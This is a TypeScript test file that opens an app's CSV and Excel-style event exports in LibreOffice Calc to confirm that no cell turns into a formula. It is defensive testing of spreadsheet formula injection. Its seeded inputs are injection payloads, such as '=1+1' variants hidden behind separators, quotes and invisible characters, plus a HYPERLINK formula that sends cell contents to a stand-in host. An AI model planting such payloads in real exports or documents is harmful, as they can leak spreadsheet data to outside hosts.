// Both CSV files, opened by a spreadsheet's own importer.

import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type ExportFormat, exportRows } from '../src/store/export.ts'
import { type Admin, openAdmin } from './admin-kit.ts'
import { eventOf, START } from './arbitrary-events.ts'
import { type CalcCell, findSoffice, openInCalc } from './spreadsheet.ts'

const soffice = findSoffice()
if (soffice === undefined)
  console.log('spreadsheet.slow.test.ts skipped: no LibreOffice in $SOFFICE or at /usr/bin/soffice')

describe.skipIf(soffice === undefined)('in LibreOffice Calc', () => {
  let admin: Admin
  let folder: string
  beforeAll(async () => {
    admin = await openAdmin()
    folder = await mkdtemp(join(tmpdir(), 'screentrail-calc-'))
    await admin.seed(TYPED.map((token, index) => eventOf({ token, at: START + index, input: { [token]: token } })))
  })
  afterAll(async () => {
    await admin.close()
    await rm(folder, { recursive: true, force: true })
  })

  const fileOf = async (format: ExportFormat) =>
    (await Array.fromAsync(exportRows(admin.store, 'events', format, {}, admin.time.now, 86_400_000))).join('')

  test.each([
    [',', 'csv', '4.25'],
    [';', 'excel', '4'],
    ['\t', undefined, ''],
    [',;\t|', undefined, ''],
  ] satisfies [string, ExportFormat | undefined, string][])(
    'opened with %j, neither file has a formula, and what is meant so (%s) has each text in a cell of its own',
    async (separators, meant, time) => {
      const files = {
        control: `x${separators[0]}=1+1`,
        csv: await fileOf('csv'),
        excel: await fileOf('excel'),
      }
      const [control = [], csv = [], excel = []] = await openInCalc(
        soffice as string,
        Object.values(files),
        separators,
        folder,
      )
      expect(formulasIn(control)).toEqual(['of:=1+1'])
      expect([formulasIn(csv), formulasIn(excel)]).toEqual([[], []])
      expect([nearFormulasIn(csv), nearFormulasIn(excel)]).toEqual([[], []])
      if (meant === undefined) return

      const [header = [], ...events] = (meant === 'csv' ? csv : excel).map((row) => row.map((cell) => cell.text))
      const column = (name: string) => events.map((row) => row[header.indexOf(name)] ?? '')
      expect(header[0]).toBe('event_id')
      expect(column('flow_token').map(bare)).toEqual(TYPED.map(bare))
      expect(new Set(column('processing_time_ms'))).toEqual(new Set([time]))
    },
    120_000,
  )
})

const formulasIn = (rows: readonly (readonly CalcCell[])[]): string[] =>
  rows.flat().flatMap((cell) => cell.formula ?? [])

/** What another spreadsheet might run, or Calc once somebody edits the cell. */
const nearFormulasIn = (rows: readonly (readonly CalcCell[])[]): string[] =>
  rows.flat().flatMap(({ text }) => (/^[\s\ufeff\u200b\u2060]*[=+\-@＝＋－＠]/.test(text) ? text : []))

/** Calc ends lines its own way. */
const bare = (text: string): string => text.replaceAll("'", '').replace(/\r\n?/g, '\n').trim()

const LINK = '=HYPERLINK("http://example.com/?"&A1,"Invoice")'

/** What people may type, each as a token and as a field’s name and value. */
const TYPED = [
  'plain',
  'żółć 🦊',
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', LINK],
  ...[' =1+1', '\t=1+1', '\n=1+1', '\r\n=1+1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '\u2003 \u2060=1+1'],
  ...['＝1+1', '＋1', '－1', '＠A1'],
  ...['"=1+1', '"" =1+1', '";=1+1', '",=1+1'],
  ...[
    'a,=1+1',
    'a;=1+1',
    'a\t=1+1',
    'a|=1+1',
    'a\n=1+1',
    'a\r=1+1',
    'a; "=1+1"',
    'a;;=1+1;',
    'a,\t;|=1+1',
    `a;${LINK}`,
  ],
]
